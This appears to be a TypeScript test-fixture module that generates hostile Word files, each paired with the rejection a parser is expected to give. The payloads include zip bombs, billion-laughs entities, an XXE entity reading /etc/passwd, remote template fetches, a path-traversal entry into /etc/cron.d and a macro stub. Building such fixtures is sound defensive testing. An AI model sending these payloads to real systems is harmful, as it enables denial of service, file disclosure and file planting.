import { deflateRawSync } from 'node:zlib'
import { writeZip } from '../zip/write-zip'
import type { HostileFile } from './hostile-file'
import { makeDocx, numbered, numbering, paragraph, table } from './make-docx'

const steps = paragraph('二、下一步打算') + paragraph('2026年6月底前开展两次执法培训。')
const relations = (type: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const encrypted = Buffer.concat([
  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  Buffer.alloc(600),
  Buffer.from('EncryptedPackage', 'utf16le'),
])

/** Word files that bomb, fetch, hide macros, lead out of their folder, or are cut, locked or nested without end. */
export async function listHostileDocx(): Promise<HostileFile[]> {
  const file = (what: string, bytes: Uint8Array, ...expected: string[]): HostileFile => {
    return { what, name: `${what}.docx`, bytes, expected }
  }
  const part = async (name: string, text: string) => makeDocx(steps, { [name]: text })
  const sound = await makeDocx(steps)
  return [
    file('zip bomb', await writeZip({ 'word/document.xml': Buffer.alloc(50_000_000, 32) }), 'fileHostile'),
    file('zip that lies about its size', lieAboutSize(await bigEntry()), 'fileHostile', 'fileDamaged'),
    file('zip of one entry named many times', await nameManyTimes(1_900), 'fileHostile'),
    file('zip of 2,100 entries', await manyEntries(2_100), 'fileHostile'),
    file(
      'entities that laugh a billion times',
      await part('word/document.xml', `<!DOCTYPE l [<!ENTITY l0 "ha">${laughs}]><l>&l9;</l>`),
      'fileHostile',
    ),
    file(
      'entity that reads a file',
      await part('word/document.xml', '<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><d>&f;</d>'),
      'fileHostile',
    ),
    file(
      'template from elsewhere',
      await part('word/_rels/settings.xml.rels', relations('attachedTemplate', 'http://10.0.0.1/t.dotm')),
      'fileHostile',
    ),
    file(
      'picture from elsewhere',
      await part('word/_rels/document.xml.rels', relations('image', 'file:////10.0.0.1/p.png')),
      'fileHostile',
    ),
    file(
      'relations without an end',
      await part('word/_rels/document.xml.rels', '<'.repeat(1_500_000)),
      'fileHostile',
      'fileDamaged',
    ),
    file('macros', await part('word/vbaProject.bin', 'Sub AutoOpen()'), 'fileWithMacros'),
    file('paths out of the folder', await part('../../../../etc/cron.d/x', 'x'), 'fileHostile'),
    file('cut docx', sound.subarray(0, sound.length / 2), 'fileDamaged'),
    file('locked docx', encrypted, 'fileEncrypted'),
    file('picture named docx', Buffer.from('89504e470d0a1a0a0000', 'hex'), 'fileWrongType'),
    file(
      'program named docx',
      Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0'), Buffer.alloc(5000, 7)]),
      'fileWrongType',
    ),
    file('zip without a document', await writeZip({ 'readme.txt': Buffer.from('x') }), 'fileWrongType'),
    file('elements nested 100,000 deep', await makeDocx('<w:sdt>'.repeat(100_000)), 'fileHostile'),
    file('tables nested 400 deep', await makeDocx(nestTables(400) + steps), 'read', 'fileHostile'),
    file(
      'cells a billion columns wide',
      await makeDocx(
        table([
          [['甲', '<w:gridSpan w:val="1000000000"/>'], ['乙']],
          [['丙'], ['丁']],
        ]) + steps,
      ),
      'read',
    ),
    file(
      'numbers without measure',
      await makeDocx(numbered('甲', 1e9) + steps, {
        'word/numbering.xml': numbering([
          ['upperRoman', '%1'],
          ['chineseCounting', '%2'],
        ]).replaceAll('w:start w:val="1"', 'w:start w:val="1e300"'),
      }),
      'read',
    ),
    file('surrogate as an entity', await makeDocx(paragraph('甲&#xD800;乙')), 'fileDamaged'),
  ]
}

const bigEntry = () => writeZip({ 'word/document.xml': Buffer.alloc(150_000_000, 32) })

/** The directory says one kilobyte where the packed data give 150 megabytes. */
function lieAboutSize(bytes: Uint8Array): Uint8Array {
  const view = Buffer.from(bytes)
  view.writeUInt32LE(1024, view.indexOf(Buffer.from('504b0102', 'hex')) + 24)
  return view
}

/** The directory lists the same packed kilobytes again and again. */
async function nameManyTimes(count: number): Promise<Uint8Array> {
  const one = Buffer.from(await writeZip({ 'word/document.xml': deflateRawSync(Buffer.alloc(3_000_000, 32)) }))
  const directory = one.indexOf(Buffer.from('504b0102', 'hex'))
  const entry = Buffer.from(one.subarray(directory, one.length - 22))
  entry.writeUInt32LE(200_000, 24)
  const end = Buffer.from(one.subarray(one.length - 22))
  for (const at of [8, 10]) end.writeUInt16LE(count, at)
  return Buffer.concat([one.subarray(0, directory), ...Array.from({ length: count }, () => entry), end])
}

function manyEntries(count: number): Promise<Uint8Array> {
  return writeZip(
    Object.fromEntries(Array.from({ length: count }, (_, index) => [`word/${index}.xml`, Buffer.alloc(1)])),
  )
}

const nestTables = (depth: number): string =>
  '<w:tbl><w:tr><w:tc>'.repeat(depth / 4) + '</w:tc></w:tr></w:tbl>'.repeat(depth / 4)
